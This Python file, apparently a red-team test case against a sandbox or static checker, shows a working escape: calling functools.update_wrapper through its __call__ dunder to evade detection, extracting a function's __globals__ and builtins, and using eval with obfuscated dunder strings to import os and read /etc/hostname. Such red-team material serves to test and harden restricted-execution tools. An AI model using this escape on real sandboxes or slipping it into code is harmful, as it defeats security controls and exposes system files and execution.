# family: red team, round 8 (imported_update_wrapper_dunder_call)
# functools.update_wrapper must be called directly so that the attribute names it copies can be judged
# (wrapper_names). Imported by name and called through its readable protocol dunder __call__, it is a
# CHAIN use (exempt from the "not as a value" rule) and the call is not recognised as update_wrapper, so
# `updated` may hold run-time names: getattr(wrapper, n).update(getattr(wrapped, n)) hands wrapped.__globals__
# to an object of the tool (the wrapper's same-named attribute is set with SimpleNamespace.__init__(**...)).
import types
from functools import update_wrapper


class Catcher:
    def __init__(self):
        self.got = []

    def update(self, value):
        self.got.append(value)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, name):
    catcher = Catcher()
    holder = types.SimpleNamespace()
    holder.__init__(**{name: catcher})
    update_wrapper.__call__(holder, obj, (), (name,))
    return catcher.got[0]


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    ev = b["eval"] if isinstance(b, dict) else b.eval
    osmod = ev(_d("import") + "('os')")
    return type(osmod).__name__, osmod.getpid(), ev("open('/etc/hostname').read()").strip()


print(run())
